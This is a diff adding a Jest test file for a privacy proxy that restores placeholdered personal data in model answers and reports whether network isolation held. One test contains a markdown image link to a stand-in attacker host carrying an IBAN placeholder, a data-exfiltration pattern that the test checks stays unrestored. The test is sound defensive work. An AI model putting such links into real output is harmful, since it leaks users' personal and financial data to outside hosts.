@@ -1,0 +1,138 @@
+import { describe, expect, test } from "@jest/globals";
+import { ProxyResponse } from "@veil/contracts/public/proxy";
+import { checked } from "@veil/http-kit";
+import type { IsolationReport, JobRecord } from "../../ports/pipeline.ts";
+import type { CustomerId } from "../accounts/caller.ts";
+import type { Answer } from "./answers.ts";
+import { proxyResponse } from "./response.ts";
+
+const now = new Date("2026-01-01T00:00:02.000Z");
+const job: JobRecord = {
+  jobId: "job_1",
+  customerId: "cus_1" as CustomerId,
+  keyId: "key",
+  requestId: "req_1",
+  state: "completed",
+  facts: {
+    token_request_id: "tok_1",
+    job_request_id: "jrq_1",
+    actor: `token:${"0".repeat(64)}`,
+    scope: "0".repeat(64),
+    received_at: "2026-01-01T00:00:00.000Z",
+    relink: true,
+    credential: "managed",
+    fields_sanitised: 2,
+    fields_sent: 1,
+    redactions: { PERSON: 1 },
+    layers: ["patterns"],
+  },
+  relinkMap: undefined,
+  answer: undefined,
+  keepMap: false,
+  createdAt: now,
+  deadline: now,
+  finishedAt: now,
+};
+const map = {
+  entries: [
+    { placeholder: "[PERSON_1]", value: 'Ann "$&" Weber' },
+    { placeholder: "[IBAN_1]", value: "DE89370400440532013000" },
+  ],
+  knownHosts: ["shop.example"],
+};
+const probed: IsolationReport = {
+  aToB: "blocked",
+  bToA: "blocked",
+  enforcedBy: "service-credentials",
+  probedAt: new Date("2026-01-01T00:00:01.000Z"),
+};
+
+function answered(text: string, overrides: Partial<Answer> = {}): Answer {
+  return {
+    dlpRedacted: false,
+    result: {
+      outcome: "completed",
+      text,
+      model_used: "m",
+      stop_reason: "end_turn",
+      input_tokens: 1,
+      output_tokens: 1,
+      latency_ms: 5,
+      attempts: 1,
+      provider: "anthropic",
+    },
+    ...overrides,
+  };
+}
+
+const respond = (answer: Answer, change: Partial<Parameters<typeof proxyResponse>[0]> = {}) =>
+  proxyResponse({ job, answer, map, isolation: probed, now, ...change });
+
+test("a text is re-linked to the letter, and the response is as specified", () => {
+  const response = respond(answered("Dear [PERSON_1]"));
+  expect(response).toMatchObject({
+    status: "JOB_STATUS_COMPLETED",
+    result: 'Dear Ann "$&" Weber',
+    relinked: true,
+    dlp_redacted: false,
+  });
+  expect(() => checked(ProxyResponse)(response)).not.toThrow();
+});
+
+test("an answer that is JSON is parsed first, so that a value with quotes does not break it", () => {
+  const { result } = respond(answered('{"name": "[PERSON_1]", "list": ["[PERSON_1]", 1]}'));
+  expect(result).toEqual({ name: 'Ann "$&" Weber', list: ['Ann "$&" Weber', 1] });
+});
+
+test.each(["[PERSON_1] wrote", "{not json", "42", '"quoted"'])("%p stays text", (text) => {
+  expect(typeof respond(answered(text)).result).toBe("string");
+});
+
+test("a placeholder in a URL of a host that the request did not name stays", () => {
+  const { result } = respond(answered("![](https://evil.example/?q=[IBAN_1])"));
+  expect(result).toBe("![](https://evil.example/?q=[IBAN_1])");
+});
+
+test("without the map nothing is restored, and the response says so", () => {
+  expect(respond(answered("[PERSON_1]"), { map: undefined })).toMatchObject({
+    result: "[PERSON_1]",
+    relinked: false,
+  });
+});
+
+test("a failure has a fixed phrase and no result", () => {
+  const result = {
+    outcome: "failed",
+    reason: "provider_refused",
+    latency_ms: 3,
+    attempts: 1,
+  } as const;
+  const response = respond({ dlpRedacted: false, result });
+  expect(response).toMatchObject({
+    status: "JOB_STATUS_FAILED",
+    error_message: "The model provider refused the request",
+  });
+  expect(response.result).toBeUndefined();
+  expect(() => checked(ProxyResponse)(response)).not.toThrow();
+});
+
+describe("network_isolation", () => {
+  const isolation = (report: IsolationReport, at = now) =>
+    respond(answered(""), { isolation: report, now: at }).compliance_trace.network_isolation;
+
+  test("says blocked when a fresh probe found so", () => {
+    expect(isolation(probed).sandbox_a_to_sandbox_b).toMatch(/^blocked/);
+    expect(isolation(probed).hint).toBeUndefined();
+  });
+
+  test.each<[string, IsolationReport, Date]>([
+    ["never probed", { ...probed, probedAt: undefined }, now],
+    ["probed more than five minutes ago", probed, new Date(now.getTime() + 300_000)],
+    ["the probe could not be completed", { ...probed, aToB: "unverified" }, now],
+    ["the door was open", { ...probed, aToB: "open" }, now],
+  ])("does not say blocked when %s, and hints why", (_case, report, at) => {
+    const said = isolation(report, at);
+    expect(said.sandbox_a_to_sandbox_b).not.toMatch(/^blocked/);
+    expect(said.hint).toBeDefined();
+  });
+});
